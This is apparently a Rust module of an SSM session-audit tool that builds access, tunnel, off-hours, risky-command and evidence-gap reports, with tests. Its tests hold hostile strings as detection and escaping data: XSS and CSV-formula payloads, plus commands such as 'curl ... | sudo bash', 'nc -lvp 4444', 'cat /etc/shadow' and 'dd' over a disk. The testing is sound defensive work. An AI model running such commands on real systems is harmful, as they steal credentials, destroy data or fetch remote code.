//! Audit reports: who accessed what, tunnels, risky commands and evidence gaps over a period.
//!
//! [`build`] turns session records and their texts into a [`Report`]; it reads no clock, so
//! the same data and period give the same report, byte for byte, in every format:
//! [`to_json`], [`to_markdown`], [`to_csv`] and [`to_html`] (one self-contained file).

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;

use serde::{Deserialize, Serialize};
use time::{OffsetDateTime, UtcOffset, Weekday};

use crate::correlate::{enum_name as name, Flag, SessionRecord, TimeSource};
use crate::facts::TranscriptSource;
use crate::select::time_of;
use crate::text::SessionText;
use crate::time::{parse_time, rfc3339};

mod csv;
mod html;
mod markdown;
mod period;
mod rules;

pub use csv::*;
pub use html::*;
pub use markdown::*;
pub use period::*;
pub use rules::*;

/// When people are expected to work.
#[derive(Clone, Debug, Serialize)]
pub struct WorkingHours {
    /// the report's time zone: a UTC offset (`+02:00`) or an IANA name (`Europe/Paris`)
    pub offset: String,
    pub start_hour: u8,
    pub end_hour: u8,
    pub days: Vec<String>,
}

pub struct ReportOptions {
    pub since: OffsetDateTime,
    pub until: OffsetDateTime,
    pub zone: Zone,
    pub start_hour: u8,
    pub end_hour: u8,
    pub days: Vec<Weekday>,
    pub provenance: Provenance,
    /// what `ssm-audit verify` found over the whole store, when it was run for this report
    /// (`None`: the report says it was not)
    pub verified: Option<Vec<IntegrityCheck>>,
}

/// One line of the report's evidence-integrity section.
#[derive(Clone, Debug, Serialize)]
pub struct IntegrityCheck {
    pub check: String,
    pub result: String,
}

impl IntegrityCheck {
    pub fn new(check: &str, result: impl ToString) -> IntegrityCheck {
        IntegrityCheck {
            check: check.to_owned(),
            result: result.to_string(),
        }
    }
}

#[derive(Clone, Debug, Default, Serialize)]
pub struct Summary {
    pub sessions: usize,
    pub principals: usize,
    pub targets: usize,
    pub tunnels: usize,
    pub denied_attempts: usize,
    pub evidence_gaps: usize,
    pub risky_commands: usize,
    pub outside_working_hours: usize,
    /// sessions no evidence gives a time: no period holds them, every report lists them under
    /// evidence gaps (`no-time`)
    pub sessions_without_time: usize,
}

/// What the report was made from and by.
#[derive(Clone, Debug, Default, Serialize)]
pub struct Provenance {
    /// when the report was made (SOURCE_DATE_EPOCH, when set, for reproducible output)
    pub generated_at: String,
    /// the ssm-audit version that made it
    pub version: String,
    /// what the data folder holds, over all time
    pub data: Coverage,
}

/// The evidence a data folder holds, over all time.
#[derive(Clone, Debug, Default, Serialize)]
pub struct Coverage {
    /// where the data is (a folder, or s3://bucket/prefix)
    pub store: String,
    pub sessions: usize,
    pub denied_attempts: usize,
    /// the earliest and latest session time
    pub earliest: Option<String>,
    pub latest: Option<String>,
    /// sessions with a StartSession (or ExecuteCommand) event
    pub with_start_event: usize,
    pub with_s3_transcript: usize,
    pub with_cloudwatch_transcript: usize,
    pub with_terminate_event: usize,
}

impl Provenance {
    /// A report made now (or at SOURCE_DATE_EPOCH, for reproducible output) by this version,
    /// from `store`; the data's coverage is filled in by [`build`].
    pub fn now(store: &str) -> Provenance {
        let at = std::env::var("SOURCE_DATE_EPOCH")
            .ok()
            .and_then(|s| s.trim().parse::<i64>().ok())
            .and_then(|s| OffsetDateTime::from_unix_timestamp(s).ok())
            .unwrap_or_else(OffsetDateTime::now_utc);
        Provenance {
            generated_at: rfc3339(at),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            data: Coverage {
                store: store.to_owned(),
                ..Coverage::default()
            },
        }
    }
}

impl Coverage {
    pub fn of(store: &str, records: &[SessionRecord]) -> Coverage {
        let sessions: Vec<&SessionRecord> =
            records.iter().filter(|r| r.session_id.is_some()).collect();
        let times: Vec<OffsetDateTime> = records.iter().filter_map(time_of).collect();
        let has = |src: TranscriptSource| {
            sessions
                .iter()
                .filter(|r| r.transcript.sources.contains(&src))
                .count()
        };
        Coverage {
            store: store.to_owned(),
            sessions: sessions.len(),
            denied_attempts: records.len() - sessions.len(),
            earliest: times.iter().min().copied().map(rfc3339),
            latest: times.iter().max().copied().map(rfc3339),
            with_start_event: sessions
                .iter()
                .filter(|r| r.time_source == TimeSource::StartEvent)
                .count(),
            with_s3_transcript: has(TranscriptSource::S3),
            with_cloudwatch_transcript: sessions
                .iter()
                .filter(|r| {
                    r.transcript
                        .sources
                        .contains(&TranscriptSource::CloudwatchStream)
                        || r.transcript
                            .sources
                            .contains(&TranscriptSource::CloudwatchUpload)
                })
                .count(),
            with_terminate_event: sessions
                .iter()
                .filter(|r| r.terminated_by.is_some())
                .count(),
        }
    }
}

#[derive(Clone, Debug, Serialize)]
pub struct Activity {
    /// principal or target
    pub name: String,
    pub sessions: usize,
    pub total_seconds: i64,
    pub longest_seconds: i64,
    pub longest_session: Option<String>,
    /// sessions still open or whose duration the evidence does not give: not in the total
    pub without_duration: usize,
}

#[derive(Clone, Debug, Serialize)]
pub struct NewAccess {
    pub principal: String,
    pub target: String,
    pub first_session: String,
    /// the first session's time (`~` when approximate: no start event)
    pub time: String,
}

#[derive(Clone, Debug, Serialize)]
pub struct TunnelRow {
    pub time: String,
    pub principal: String,
    pub source_ip: String,
    pub target: String,
    pub host: String,
    pub port: String,
    pub local_port: String,
    pub duration_seconds: Option<i64>,
    /// still open: no duration yet
    pub open: bool,
    pub session_id: String,
}

#[derive(Clone, Debug, Serialize)]
pub struct OffHours {
    pub time: String,
    /// local time in the report's zone
    pub local: String,
    pub principal: String,
    pub target: String,
    pub session_id: String,
}

#[derive(Clone, Debug, Serialize)]
pub struct RiskyCommand {
    /// the session's time
    pub time: String,
    /// when the command ran, where a streamed CloudWatch copy tells
    pub ran_at: Option<String>,
    pub principal: String,
    pub target: String,
    pub rule: String,
    pub severity: String,
    pub command: String,
    pub line: u64,
    pub session_id: String,
}

#[derive(Clone, Debug, Serialize)]
pub struct Gap {
    pub time: String,
    pub gap: String,
    pub principal: String,
    pub target: String,
    /// the session id, or `(ErrorCode)` for a denied attempt
    pub session_id: String,
}

#[derive(Clone, Debug, Serialize)]
pub struct Report {
    pub provenance: Provenance,
    pub since: String,
    pub until: String,
    pub working_hours: WorkingHours,
    pub summary: Summary,
    pub per_principal: Vec<Activity>,
    pub per_target: Vec<Activity>,
    pub new_access: Vec<NewAccess>,
    pub tunnels: Vec<TunnelRow>,
    pub outside_working_hours: Vec<OffHours>,
    pub risky_commands: Vec<RiskyCommand>,
    pub evidence_gaps: Vec<Gap>,
    /// sessions per day (UTC date) across the period
    pub per_day: Vec<(String, usize)>,
    /// a period longer than ten years lists days without sessions only before this day
    #[serde(skip_serializing_if = "Option::is_none")]
    pub per_day_sparse_from: Option<String>,
    /// for the timeline: (principal, start, end or start, session id)
    pub timeline: Vec<(String, String, String, String)>,
    /// the period's sessions whose copies disagree, were written by another node or exist
    /// twice; then what `verify` found over the store, or that it was not run
    pub evidence_integrity: Vec<IntegrityCheck>,
}

fn s(o: &Option<String>) -> String {
    o.clone().unwrap_or_else(|| "-".into())
}

/// Days listed in `per_day` even when empty: ten years.
const MAX_EMPTY_DAYS: usize = 3660;

/// Build the report of sessions started in `[since, until)`. `text` gives a session's
/// rendered text (for its commands).
pub fn build(
    records: &[SessionRecord],
    text: &dyn Fn(&str) -> Option<SessionText>,
    rules: &Rules,
    o: &ReportOptions,
) -> Report {
    let started = time_of;
    let in_period = |r: &SessionRecord| started(r).is_some_and(|t| t >= o.since && t < o.until);
    let mut sel: Vec<&SessionRecord> = records.iter().filter(|r| in_period(r)).collect();
    sel.sort_by(|a, b| {
        (started(a), &a.session_id, &a.principal).cmp(&(started(b), &b.session_id, &b.principal))
    });
    // sessions no evidence dates: no period holds them, so every report names them
    let undated: Vec<&SessionRecord> = records.iter().filter(|r| started(r).is_none()).collect();
    let sessions: Vec<&SessionRecord> = sel
        .iter()
        .copied()
        .filter(|r| r.session_id.is_some())
        .collect();

    let activity = |key: &dyn Fn(&SessionRecord) -> String| {
        let mut m: BTreeMap<String, Activity> = BTreeMap::new();
        for r in &sessions {
            let a = m.entry(key(r)).or_insert_with_key(|k| Activity {
                name: k.clone(),
                sessions: 0,
                total_seconds: 0,
                longest_seconds: 0,
                longest_session: None,
                without_duration: 0,
            });
            a.sessions += 1;
            if r.duration_seconds.is_none() || r.flags.contains(&Flag::Open) {
                a.without_duration += 1;
            }
            let d = r.duration_seconds.unwrap_or(0);
            a.total_seconds += d;
            if d > a.longest_seconds || a.longest_session.is_none() {
                a.longest_seconds = a.longest_seconds.max(d);
                if d >= a.longest_seconds {
                    a.longest_session = r.session_id.clone();
                }
            }
        }
        let mut v: Vec<Activity> = m.into_values().collect();
        v.sort_by(|a, b| {
            b.sessions
                .cmp(&a.sessions)
                .then_with(|| a.name.cmp(&b.name))
        });
        v
    };
    let per_principal = activity(&|r| s(&r.principal));
    let per_target = activity(&|r| s(&r.target));

    // first session of each principal on each target, over all history
    let mut first: BTreeMap<(String, String), (OffsetDateTime, String, String)> = BTreeMap::new();
    for r in records.iter().filter(|r| r.session_id.is_some()) {
        let (Some(p), Some(t), Some(st)) = (&r.principal, &r.target, started(r)) else {
            continue;
        };
        let e =
            first
                .entry((p.clone(), t.clone()))
                .or_insert((st, s(&r.session_id), r.time_display()));
        if (st, &s(&r.session_id)) < (e.0, &e.1) {
            *e = (st, s(&r.session_id), r.time_display());
        }
    }
    let new_access: Vec<NewAccess> = first
        .into_iter()
        .filter(|(_, (st, _, _))| *st >= o.since && *st < o.until)
        .map(|((p, t), (_, sid, shown))| NewAccess {
            principal: p,
            target: t,
            first_session: sid,
            time: shown,
        })
        .collect();

    let tunnels: Vec<TunnelRow> = sessions
        .iter()
        .filter(|r| r.kind.is_tunnel())
        .map(|r| {
            let t = r.tunnel.clone().unwrap_or_default();
            TunnelRow {
                time: r.time_display(),
                principal: s(&r.principal),
                source_ip: s(&r.source_ip),
                target: s(&r.target),
                host: t.host.unwrap_or_else(|| "(target)".into()),
                port: t.port.map_or("-".into(), |p| p.to_string()),
                local_port: t.local_port.map_or("-".into(), |p| p.to_string()),
                duration_seconds: r.duration_seconds,
                open: r.flags.contains(&Flag::Open),
                session_id: s(&r.session_id),
            }
        })
        .collect();

    let outside_working_hours: Vec<OffHours> = sessions
        .iter()
        .filter_map(|r| {
            let local = o.zone.local(started(r)?);
            let inside = o.days.contains(&local.weekday())
                && (o.start_hour..o.end_hour).contains(&local.hour());
            (!inside).then(|| OffHours {
                time: r.time_display(),
                local: format!(
                    "{} {:02}:{:02}",
                    local.weekday(),
                    local.hour(),
                    local.minute()
                ),
                principal: s(&r.principal),
                target: s(&r.target),
                session_id: s(&r.session_id),
            })
        })
        .collect();

    let mut risky_commands = Vec::new();
    for r in &sessions {
        let Some(id) = &r.session_id else { continue };
        let Some(t) = text(id) else { continue };
        for (line, cmd) in &t.commands {
            for rule in rules.matching(cmd) {
                risky_commands.push(RiskyCommand {
                    time: r.time_display(),
                    ran_at: t.command_times.get(line).cloned(),
                    principal: s(&r.principal),
                    target: s(&r.target),
                    rule: rule.id.clone(),
                    severity: rule.severity.clone(),
                    command: cmd.clone(),
                    line: *line,
                    session_id: id.clone(),
                });
            }
        }
    }

    let gap_flags = [
        Flag::TranscriptMissing,
        Flag::NoStartEvent,
        Flag::Denied,
        Flag::Open,
        Flag::PrincipalMismatch,
    ];
    let evidence_gaps: Vec<Gap> = sel
        .iter()
        .filter(|r| r.flags.iter().any(|f| gap_flags.contains(f)))
        .chain(undated.iter())
        .map(|r| Gap {
            time: r.time_display(),
            gap: (started(r).is_none().then(|| "no-time".to_owned()))
                .into_iter()
                .chain(r.flags.iter().filter(|f| gap_flags.contains(f)).map(name))
                .collect::<Vec<_>>()
                .join(","),
            principal: s(&r.principal),
            target: s(&r.target),
            session_id: r
                .session_id
                .clone()
                .unwrap_or_else(|| format!("({})", s(&r.error_code))),
        })
        .collect();

    // every day of the period, empty ones too, up to ten years of them; past that, only the
    // days with sessions (and the report says so)
    let mut per_day: BTreeMap<String, usize> = BTreeMap::new();
    let mut per_day_sparse_from = None;
    let mut day = o.since.date();
    while day < o.until.date() || (day == o.until.date() && o.until.time() != time::Time::MIDNIGHT)
    {
        per_day.insert(day.to_string(), 0);
        match day.next_day() {
            Some(d) if per_day.len() < MAX_EMPTY_DAYS => day = d,
            Some(d) => {
                per_day_sparse_from = Some(d.to_string());
                break;
            }
            None => break,
        }
    }
    for r in &sessions {
        if let Some(t) = started(r) {
            *per_day.entry(t.date().to_string()).or_default() += 1;
        }
    }
    let timeline = sessions
        .iter()
        .map(|r| {
            (
                s(&r.principal),
                s(&r.time),
                r.end.clone().unwrap_or_else(|| s(&r.time)),
                s(&r.session_id),
            )
        })
        .collect();

    let principals: BTreeSet<&str> = sessions
        .iter()
        .filter_map(|r| r.principal.as_deref())
        .collect();
    let targets: BTreeSet<&str> = sessions
        .iter()
        .filter_map(|r| r.target.as_deref())
        .collect();
    let summary = Summary {
        sessions: sessions.len(),
        principals: principals.len(),
        targets: targets.len(),
        tunnels: tunnels.len(),
        denied_attempts: sel
            .iter()
            .filter(|r| r.flags.contains(&Flag::Denied))
            .count(),
        evidence_gaps: evidence_gaps.len(),
        risky_commands: risky_commands.len(),
        outside_working_hours: outside_working_hours.len(),
        sessions_without_time: undated.len(),
    };
    let flagged = |f: Flag| sel.iter().filter(|r| r.flags.contains(&f)).count();
    let mut evidence_integrity = vec![
        IntegrityCheck::new(
            "sessions whose S3 and CloudWatch copies disagree",
            flagged(Flag::CopiesDisagree),
        ),
        IntegrityCheck::new(
            "sessions whose S3 transcript was overwritten after upload",
            flagged(Flag::TranscriptRewritten),
        ),
        IntegrityCheck::new(
            "sessions with a transcript written by another node",
            flagged(Flag::WrittenByOtherNode),
        ),
        IntegrityCheck::new(
            "sessions with two copies from one source",
            flagged(Flag::MultipleCopies),
        ),
    ];
    match &o.verified {
        Some(v) => evidence_integrity.extend(v.iter().cloned()),
        None => evidence_integrity.push(IntegrityCheck::new(
            "digests, trail files, kept copies and the ledger",
            "not checked for this report (ssm-audit verify)",
        )),
    }
    Report {
        provenance: Provenance {
            data: Coverage::of(&o.provenance.data.store, records),
            ..o.provenance.clone()
        },
        since: rfc3339(o.since),
        until: rfc3339(o.until),
        working_hours: WorkingHours {
            offset: o.zone.name().to_owned(),
            start_hour: o.start_hour,
            end_hour: o.end_hour,
            days: o.days.iter().map(|d| d.to_string()).collect(),
        },
        summary,
        per_principal,
        per_target,
        new_access,
        tunnels,
        outside_working_hours,
        risky_commands,
        evidence_gaps,
        per_day: per_day.into_iter().collect(),
        per_day_sparse_from,
        timeline,
        evidence_integrity,
    }
}

// ---- renderings ----------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_cells_show_evidence_and_never_run_it() {
        assert_eq!(
            md_cell("<script>alert(1)</script>"),
            "`<script>alert(1)</script>`"
        );
        assert_eq!(
            md_cell("<img src=x onerror=alert(1)>"),
            "`<img src=x onerror=alert(1)>`"
        );
        assert_eq!(
            md_cell("[ok](https://evil.example)"),
            "`[ok](https://evil.example)`"
        );
        // a pipe would end the table cell even in a code span
        assert_eq!(md_cell("cat x | sh"), "`cat x \\| sh`");
        // backticks in the text: a longer fence, padded when the text starts with one
        assert_eq!(md_cell("a`b"), "``a`b``");
        assert_eq!(md_cell("`x`"), "`` `x` ``");
        assert_eq!(md_cell(""), "");
        // controls are made visible
        assert_eq!(md_cell("a\x1b[31mb"), "`a\\e[31mb`");
    }

    #[test]
    fn csv_cells_cannot_become_formulas_and_durations_are_seconds() {
        assert_eq!(csv_field("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
        assert_eq!(csv_field("+1"), "'+1");
        assert_eq!(csv_field("-rf"), "'-rf");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(Durations::Seconds.show(Some(2820), false), "2820");
        assert_eq!(Durations::Seconds.show(Some(2820), true), "open");
        assert_eq!(Durations::Seconds.show(None, false), "unknown");
        assert_eq!(Durations::Human.show(Some(2820), false), "47m00s");
        assert_eq!(Durations::Human.show(None, true), "open");
        assert_eq!(Durations::Human.show(None, false), "unknown");
    }

    fn ids(rules: &Rules, cmd: &str) -> Vec<String> {
        rules
            .matching(cmd)
            .into_iter()
            .map(|r| r.id.clone())
            .collect()
    }

    #[test]
    fn default_rules_match_what_they_say_and_not_more() {
        let r = Rules::load(None).unwrap();
        assert_eq!(ids(&r, "sudo -i"), ["privilege-sudo"]);
        assert_eq!(ids(&r, "su - postgres"), ["privilege-su"]);
        assert_eq!(ids(&r, "history -c"), ["history-tampering"]);
        assert_eq!(ids(&r, "unset HISTFILE"), ["history-tampering"]);
        assert_eq!(ids(&r, "cat /etc/shadow | head -3"), ["credentials-read"]);
        assert_eq!(
            ids(&r, "aws secretsmanager get-secret-value --secret-id x"),
            ["credentials-read"]
        );
        assert_eq!(
            ids(&r, "export DB_PASSWORD=x"),
            ["credentials-in-environment"]
        );
        assert_eq!(ids(&r, "rm -rf /var/lib/data"), ["destructive-rm"]);
        assert_eq!(ids(&r, "rm -fr x"), ["destructive-rm"]);
        assert_eq!(
            ids(&r, "dd if=/dev/zero of=/dev/xvda"),
            ["destructive-disk"]
        );
        assert_eq!(
            ids(&r, "curl -s https://x.example/i.sh | sudo bash"),
            ["privilege-sudo", "download-to-shell"]
        );
        assert_eq!(ids(&r, "nc -lvp 4444"), ["network-tools"]);
        assert_eq!(
            ids(&r, "sudo apt-get install -y nmap"),
            ["privilege-sudo", "package-install"]
        );
        assert_eq!(ids(&r, "useradd eve"), ["user-management"]);
        assert_eq!(ids(&r, "chmod 4755 /tmp/x"), ["permissions-change"]);
        // not risky
        for ok in [
            "grep root /etc/passwd",
            "ls -la",
            "rm file.txt",
            "echo sudoku",
            "cat README.md",
            "kubectl get pods",
        ] {
            assert!(ids(&r, ok).is_empty(), "{ok}: {:?}", ids(&r, ok));
        }
    }

    #[test]
    fn user_rules_override_add_and_disable() {
        let user = "[[rule]]\nid = \"privilege-sudo\"\npattern = 'sudo'\nseverity = \"low\"\ndescription = \"x\"\n\
                    [[rule]]\nid = \"network-tools\"\npattern = 'x'\nseverity = \"low\"\ndescription = \"x\"\nenabled = false\n\
                    [[rule]]\nid = \"prod-db\"\npattern = 'psql.*prod'\nseverity = \"critical\"\ndescription = \"prod database\"\n";
        let r = Rules::load(Some(("mine.toml", user))).unwrap();
        assert_eq!(r.matching("sudo ls")[0].severity, "low");
        assert!(ids(&r, "nc -l 1").is_empty());
        assert_eq!(ids(&r, "psql -h prod-db"), ["prod-db"]);
        let bad = Rules::load(Some((
            "bad.toml",
            "[[rule]]\nid = \"x\"\npattern = '('\nseverity = \"low\"\ndescription = \"\"\n",
        )));
        assert!(bad.is_err());
        let bad = Rules::load(Some((
            "bad.toml",
            "[[rule]]\nid = \"x\"\npattern = 'a'\nseverity = \"urgent\"\ndescription = \"\"\n",
        )));
        assert!(bad.unwrap_err().to_string().contains("urgent"));
    }
}
